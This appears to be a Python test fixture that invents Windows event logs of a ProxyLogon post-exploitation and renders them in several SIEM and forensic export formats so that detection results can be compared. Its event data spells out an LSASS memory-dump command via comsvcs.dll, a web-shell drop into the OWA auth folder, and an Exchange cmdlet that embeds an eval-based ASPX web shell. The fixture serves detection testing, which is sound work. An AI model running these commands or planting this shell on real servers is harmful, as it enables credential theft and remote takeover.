"""Invented Windows events of a ProxyLogon post-exploitation, rendered in every export shape.

One canonical list (System values + EventData) and one renderer per shape, so a test can scan the
same events as the EVTX reader's JSON (the reference) and as each export and compare the findings.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
EXCHANGE = ("MSExchange CmdletLogs", "MSExchange Management")
HOST = "exch01.corp.example"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
OWA_POOL = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
AUTH = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
T0 = datetime(2021, 3, 3, 2, 10, 5, 123000, tzinfo=UTC)  # the Sysmon UtcTime of the first event
# the export time of a Sysmon record lags its UtcTime (agent and forwarder delays): UtcTime must win
EXPORT_LAG = timedelta(seconds=2)


def _utc(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"


def events() -> list[dict[str, Any]]:
    """(provider, channel, event id, record id, time, named data or unnamed list)."""
    t = T0
    return [
        {"provider": SYSMON[0], "channel": SYSMON[1], "id": 1, "record": 101, "ts": t,
         "data": {"UtcTime": _utc(t), "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c whoami /all", "ParentImage": W3WP, "ParentCommandLine": OWA_POOL,
                  "User": "NT AUTHORITY\\SYSTEM"}},
        {"provider": SYSMON[0], "channel": SYSMON[1], "id": 1, "record": 102, "ts": t + timedelta(minutes=3),
         "data": {"UtcTime": _utc(t + timedelta(minutes=3)), "Image": "C:\\Windows\\System32\\rundll32.exe",
                  "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 "
                                 "C:\\ProgramData\\lsass.dmp full",
                  "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd /c x",
                  "User": "NT AUTHORITY\\SYSTEM"}},
        {"provider": SYSMON[0], "channel": SYSMON[1], "id": 11, "record": 103, "ts": t + timedelta(minutes=1),
         "data": {"UtcTime": _utc(t + timedelta(minutes=1)), "Image": W3WP,
                  "TargetFilename": AUTH + "shellx.aspx", "CreationUtcTime": _utc(t + timedelta(minutes=1))}},
        {"provider": EXCHANGE[0], "channel": EXCHANGE[1], "id": 1, "record": 7, "ts": t - timedelta(seconds=30),
         "data": ["Set-OabVirtualDirectory",
                  '-ExternalUrl "http://f/<script language=\'JScript\' runat=\'server\'>function Page_Load()'
                  '{eval(Request[\'p\'],\'unsafe\');}</script>" -Identity "OAB (Default Web Site)"',
                  "corp.example/Users/attacker", "S-1-5-21-1-2-3-500"]},
    ]


def _iso(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ts.microsecond:06d}Z"


def _export_time(e: dict[str, Any]) -> datetime:
    return e["ts"] + EXPORT_LAG if e["provider"] == SYSMON[0] else e["ts"]


def _params(data: list[str]) -> dict[str, str]:
    return {f"param{n}": v for n, v in enumerate(data, 1)}


def evtx_json(e: dict[str, Any]) -> dict[str, Any]:
    """The reference: the evtx crate's JSON of the record (what the EVTX reader maps)."""
    data = e["data"]
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": e["provider"]}}, "EventID": e["id"], "Level": 4,
                   "TimeCreated": {"#attributes": {"SystemTime": _iso(_export_time(e))}},
                   "EventRecordID": e["record"], "Channel": e["channel"], "Computer": HOST},
        "EventData": data if isinstance(data, dict) else {"Data": {"#text": data}},
    }}


def nxlog(e: dict[str, Any]) -> dict[str, Any]:
    """NXLog im_msvistalog + to_json(): local EventTime without an offset, EventData flattened."""
    local = _export_time(e) + timedelta(hours=2)
    data = e["data"]
    return {"EventTime": local.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": HOST, "Keywords": -9223372036854775808,
            "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": e["id"],
            "SourceName": e["provider"], "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "Version": 5, "Task": 1, "OpcodeValue": 0, "RecordNumber": e["record"], "ProcessID": 2152,
            "ThreadID": 3372, "Channel": e["channel"], "Category": "Process Create (rule: ProcessCreate)",
            "Opcode": "Info", **(data if isinstance(data, dict) else _params(data)),
            "EventReceivedTime": local.strftime("%Y-%m-%d %H:%M:%S"), "SourceModuleName": "eventlog",
            "SourceModuleType": "im_msvistalog"}


def otrf(e: dict[str, Any]) -> dict[str, Any]:
    """OTRF Security-Datasets: flat, ``@timestamp`` in UTC with Z, ``EventTime`` local."""
    doc = nxlog(e)
    doc["@timestamp"] = _iso(_export_time(e))
    doc["@version"] = "1"
    doc["host"] = "wec.internal"
    return doc


def splunk(e: dict[str, Any]) -> dict[str, Any]:
    """Splunk WinEventLog export: EventCode, LogName, SourceName, ComputerName, ``_time`` with offset."""
    data = e["data"]
    return {"_time": _export_time(e).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00", "host": "EXCH01",
            "source": "WinEventLog:" + e["channel"], "sourcetype": "XmlWinEventLog",
            "LogName": e["channel"], "SourceName": e["provider"], "EventCode": str(e["id"]),
            "ComputerName": HOST, "RecordNumber": str(e["record"]),
            **(data if isinstance(data, dict) else _params(data))}


def _xml_data(data: dict[str, str] | list[str]) -> str:
    def esc(v: str) -> str:
        return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    if isinstance(data, dict):
        inner = "".join(f'<Data Name="{k}">{esc(v)}</Data>' for k, v in data.items())
    else:
        inner = "".join(f"<Data>{esc(v)}</Data>" for v in data)
    return ('<DataItem type="System.XmlData" time="x" sourceHealthServiceId="y"><EventData '
            f'xmlns="http://schemas.microsoft.com/win/2004/08/events/event">{inner}</EventData></DataItem>')


def sentinel(e: dict[str, Any]) -> dict[str, Any]:
    """Log Analytics ``Event`` table row: TimeGenerated (UTC), EventLog, Source, EventData XML."""
    return {"TenantId": "00000000-0000-0000-0000-000000000000", "SourceSystem": "OpsManager",
            "TimeGenerated": _iso(_export_time(e)), "Source": e["provider"], "EventLog": e["channel"],
            "Computer": HOST, "EventLevel": 4, "EventLevelName": "Information", "EventID": e["id"],
            "MG": "00000000-0000-0000-0000-000000000001", "EventData": _xml_data(e["data"]),
            "RenderedDescription": "", "Type": "Event"}


def velociraptor(e: dict[str, Any]) -> dict[str, Any]:
    """Velociraptor Windows.EventLogs.EVTX: System and EventData nested, SystemTime as epoch seconds."""
    data = e["data"]
    return {"EventTime": _iso(_export_time(e)), "System": {
        "Provider": {"Name": e["provider"], "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"},
        "EventID": {"Value": e["id"]}, "Level": 4, "Task": 1, "Opcode": 0,
        "TimeCreated": {"SystemTime": _export_time(e).timestamp()}, "EventRecordID": e["record"],
        "Channel": e["channel"], "Computer": HOST, "Security": {"UserID": "S-1-5-18"}},
        "EventData": data if isinstance(data, dict) else {"Data": data, "Binary": ""},
        "Message": "", "_Source": "Windows.EventLogs.EVTX"}


def evtxecmd_row(e: dict[str, Any]) -> dict[str, str]:
    """EvtxECmd CSV: TimeCreated in UTC without an offset, EventData as JSON in Payload."""
    data = e["data"]
    payload = ({"EventData": {"Data": [{"@Name": k, "#text": v} for k, v in data.items()]}}
               if isinstance(data, dict) else {"EventData": {"Data": data}})
    return {"RecordNumber": str(e["record"]), "EventRecordId": str(e["record"]),
            "TimeCreated": _export_time(e).strftime("%Y-%m-%d %H:%M:%S.%f") + "0", "EventId": str(e["id"]),
            "Level": "Info", "Provider": e["provider"], "Channel": e["channel"], "ProcessId": "2152",
            "ThreadId": "3372", "Computer": HOST, "UserId": "S-1-5-18", "MapDescription": "",
            "UserName": "", "RemoteHost": "", "PayloadData1": "", "PayloadData2": "", "ExecutableInfo": "",
            "HiddenRecord": "False", "SourceFile": "C:\\Windows\\System32\\winevt\\Logs\\x.evtx",
            "Keywords": "", "ExtraDataOffset": "0", "Payload": orjson.dumps(payload).decode()}


def jsonl(render: Callable[[dict[str, Any]], dict[str, Any]], items: list[dict[str, Any]]) -> bytes:
    return b"".join(orjson.dumps(render(e)) + b"\n" for e in items)


def csv_bytes(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig")


SHAPES: dict[str, Callable[[list[dict[str, Any]]], bytes]] = {
    "evtx-json": lambda items: jsonl(evtx_json, items),
    "nxlog": lambda items: jsonl(nxlog, items),
    "otrf": lambda items: jsonl(otrf, items),
    "splunk": lambda items: jsonl(splunk, items),
    "sentinel": lambda items: jsonl(sentinel, items),
    "velociraptor": lambda items: jsonl(velociraptor, items),
    "evtxecmd-csv": lambda items: csv_bytes([evtxecmd_row(e) for e in items]),
}
